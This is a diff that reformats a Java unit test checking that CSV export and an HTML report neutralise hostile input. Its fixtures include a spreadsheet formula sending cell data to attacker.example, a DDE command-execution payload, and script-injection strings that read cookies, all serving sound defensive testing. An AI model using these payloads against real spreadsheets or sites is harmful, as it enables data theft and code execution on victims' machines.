@@ -18,22 +18,30 @@ import org.junit.jupiter.api.Test;
 
 /**
  * The texts of the hostile corpus (comm_log/formula_and_markup.csv, social_comments/markup.jsonl),
- * which ingest stores verbatim, stay inert in the outputs: {@code sql --format csv} and the HTML report.
+ * which ingest stores verbatim, stay inert in the outputs: {@code sql --format csv} and the HTML
+ * report.
  */
 class HostileOutputTest {
-  static final List<String> FORMULAS = List.of(
-      "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")",
-      "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1");
-  static final List<String> MARKUP = List.of(
-      "<script>alert('x')</script><img src=x onerror=alert(1)>",
-      "<script>alert(document.cookie)</script>",
-      "mail me </td></tr><b>bold</b>");
+  static final List<String> FORMULAS =
+      List.of(
+          "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")",
+          "+SUM(1+1)*cmd|' /C calc'!A0",
+          "-2+3",
+          "@SUM(1)",
+          "\t=1+1",
+          "\r=1+1");
+  static final List<String> MARKUP =
+      List.of(
+          "<script>alert('x')</script><img src=x onerror=alert(1)>",
+          "<script>alert(document.cookie)</script>",
+          "mail me </td></tr><b>bold</b>");
 
   @Test
   void noCsvCellStartsWithAFormulaCharacter() throws IOException {
     StructType schema = new StructType().add("topic", DataTypes.StringType);
     StringWriter out = new StringWriter();
-    ResultFormat.CSV.write(schema, FORMULAS.stream().map(t -> (Row) RowFactory.create(t)).iterator(), out);
+    ResultFormat.CSV.write(
+        schema, FORMULAS.stream().map(t -> (Row) RowFactory.create(t)).iterator(), out);
     List<String> cells = parseSingleColumnCsv(out.toString());
     assertEquals("topic", cells.get(0));
     assertEquals(FORMULAS.size(), cells.size() - 1, out.toString());
@@ -52,7 +60,9 @@ class HostileOutputTest {
       assertFalse(html.toLowerCase(Locale.ROOT).contains("<script"), html);
       assertTrue(html.contains("&lt;"), html);
     }
-    assertEquals("&lt;img src=x onerror=alert(1)&gt; &quot;&#39;&amp;", HtmlReport.escape("<img src=x onerror=alert(1)> \"'&"));
+    assertEquals(
+        "&lt;img src=x onerror=alert(1)&gt; &quot;&#39;&amp;",
+        HtmlReport.escape("<img src=x onerror=alert(1)> \"'&"));
   }
 
   /** RFC 4180, one column: quoted cells may hold commas, quotes and line breaks. */
